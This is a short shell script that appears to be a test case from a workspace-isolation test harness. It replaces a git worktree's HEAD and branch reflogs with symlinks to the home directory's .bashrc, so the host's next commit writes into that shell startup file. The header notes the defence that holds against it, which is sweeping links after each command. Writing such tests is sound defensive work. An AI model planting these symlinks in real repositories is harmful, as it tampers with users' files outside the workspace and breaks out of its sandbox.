#!/bin/sh
# Replaces the log of the work tree's HEAD, and that of its branch, by links to a file beside the workspace.
# Matters: the next commit of the host appends a line to what the link names.
# Held by: links are swept after each command.
# judge: host
# harm: file
# prepare: sh "$HOSTILE_PROGRAMS/common/linked.sh"
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
common=$HOSTILE_STAGE/repository/.git
own=$common/worktrees/workspace
rm -f "$own/logs/HEAD" "$common/logs/refs/heads/linked"
mkdir -p "$own/logs" "$common/logs/refs/heads"
ln -s "$HOSTILE_STAGE/home/.bashrc" "$own/logs/HEAD"
ln -s "$HOSTILE_STAGE/home/.bashrc" "$common/logs/refs/heads/linked"
